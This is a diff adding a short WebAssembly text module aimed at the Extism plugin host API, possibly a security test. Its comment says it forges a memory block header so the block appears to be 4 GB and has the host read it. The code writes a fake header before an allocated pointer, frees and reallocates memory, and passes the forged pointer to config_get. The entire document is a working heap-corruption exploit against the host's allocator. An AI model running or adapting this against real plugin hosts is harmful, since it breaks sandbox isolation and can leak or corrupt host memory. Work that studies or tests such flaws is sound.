@@ -1,0 +1,21 @@
+;; Forges the header of a block, so that it seems to have 4 GB, and has the host read it.
+(module
+  (import "extism:host/env" "alloc" (func $alloc (param i64) (result i64)))
+  (import "extism:host/env" "free" (func $free (param i64)))
+  (import "extism:host/env" "store_u64" (func $store_u64 (param i64 i64)))
+  (import "extism:host/env" "log_error" (func $log_error (param i64)))
+  (import "extism:host/env" "config_get" (func $config_get (param i64) (result i64)))
+  (func $forged (result i64)
+    (local $at i64)
+    (local.set $at (call $alloc (i64.const 16)))
+    ;; mark "LIVE", then the length; room and the next free block behind it
+    (call $store_u64 (i64.sub (local.get $at) (i64.const 16)) (i64.const 0xffffffff4c49564b))
+    (call $store_u64 (i64.sub (local.get $at) (i64.const 8)) (i64.const 0x00000040fffffff0))
+    (local.get $at))
+  (func (export "post") (result i32)
+    (local $at i64)
+    (local.set $at (call $forged))
+    (call $free (local.get $at))
+    (drop (call $alloc (i64.const 1000)))
+    (drop (call $config_get (call $forged)))
+    (i32.const 0)))
